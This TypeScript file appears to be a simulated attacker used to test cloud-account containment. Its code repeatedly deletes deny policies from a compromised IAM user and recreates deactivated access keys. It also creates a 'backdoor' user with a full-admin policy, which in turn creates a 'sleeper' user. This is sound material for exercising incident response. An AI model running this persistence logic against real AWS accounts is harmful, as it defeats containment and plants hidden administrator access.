/** How an attacker makes a call: as somebody, past the product. Rejects when it is refused. */
export type Calling = <T = Record<string, unknown>>(accessKeyId: string, operation: string, input?: object) => Promise<T>;

export type Deeds = {
  /** Keys that it made for itself. */
  readonly keys: string[];
  /** Users that it made with the stolen identity. */
  readonly made: string[];
  /** Users that those made in their turn. */
  readonly sleepers: string[];
  /** How often a denial was taken away. */
  detached: number;
  /** Calls that were refused one after the other when it gave up. */
  refused: number;
};

const EVERYTHING = JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] });
const OWN = "data-export";

export type Fight = {
  readonly calling: Calling;
  readonly keys: readonly string[];
  readonly now: () => number;
  readonly sleep: (ms: number) => Promise<void>;
  /** How long it fights from the first denial that it sees: until that one has spread. Afterwards it only tries what it has. */
  readonly forMs: number;
  readonly stop: AbortSignal;
};

/**
 * Fights a containment: every 500 ms it takes denials off itself and replaces a key that was deactivated, and once makes a user that makes
 * a user. Ends when it is told to.
 */
export async function fight({ calling, keys, now, sleep, forMs, stop }: Fight): Promise<Deeds> {
  const deeds: Deeds = { keys: [], made: [], sleepers: [], detached: 0, refused: 0 };
  const usable = [...keys];
  let seenAt: number | null = null;
  const attempt = async <T>(operation: string, input: object): Promise<T | null> => {
    for (const key of usable.toReversed()) {
      const done = await calling<T>(key, operation, input).catch(() => null);
      if (done !== null) return done;
    }
    return null;
  };
  for (; !stop.aborted; await sleep(500)) {
    const policies = await attempt<{ PolicyNames: string[] }>("iam:ListUserPolicies", { UserName: "intruder" });
    deeds.refused = policies === null ? deeds.refused + 1 : 0;
    const denials = policies?.PolicyNames.filter((name) => name !== OWN) ?? [];
    if (denials.length > 0) seenAt ??= now();
    if (seenAt !== null && now() > seenAt + forMs) continue;
    for (const PolicyName of denials)
      if ((await attempt("iam:DeleteUserPolicy", { UserName: "intruder", PolicyName })) !== null) deeds.detached++;
    await renewKey(attempt, usable, deeds);
    if (deeds.made.length === 0) await makeUsers(calling, attempt, deeds);
  }
  return deeds;
}

type Attempt = <T>(operation: string, input: object) => Promise<T | null>;
type Made = { AccessKey: { AccessKeyId: string } };

async function renewKey(attempt: Attempt, usable: string[], deeds: Deeds): Promise<void> {
  const listed = await attempt<{ AccessKeyMetadata: { AccessKeyId: string; Status: string }[] }>("iam:ListAccessKeys", {
    UserName: "intruder",
  });
  const dead = listed?.AccessKeyMetadata.find(({ Status }) => Status === "Inactive");
  if (dead === undefined) return;
  await attempt("iam:DeleteAccessKey", { UserName: "intruder", AccessKeyId: dead.AccessKeyId });
  const made = await attempt<Made>("iam:CreateAccessKey", { UserName: "intruder" });
  if (made === null) return;
  deeds.keys.push(made.AccessKey.AccessKeyId);
  usable.push(made.AccessKey.AccessKeyId);
}

async function makeUsers(calling: Calling, attempt: Attempt, deeds: Deeds): Promise<void> {
  const user = { UserName: "backdoor" };
  if ((await attempt("iam:CreateUser", user)) === null) return;
  deeds.made.push(user.UserName);
  await attempt("iam:PutUserPolicy", { ...user, PolicyName: "all", PolicyDocument: EVERYTHING });
  const key = await attempt<Made>("iam:CreateAccessKey", user);
  if (key === null) return;
  void sleeper(calling, key.AccessKey.AccessKeyId, deeds);
}

/** The second generation: nothing that the plan is about made it. */
async function sleeper(calling: Calling, key: string, deeds: Deeds): Promise<void> {
  const user = { UserName: "sleeper" };
  for (let tries = 0; tries < 200 && deeds.sleepers.length === 0; tries++) {
    const made = await calling(key, "iam:CreateUser", user).catch(() => null);
    if (made !== null) deeds.sleepers.push(user.UserName);
    else await new Promise((resolve) => setTimeout(resolve, 100));
  }
  await calling(key, "iam:CreateAccessKey", user).catch(() => null);
}
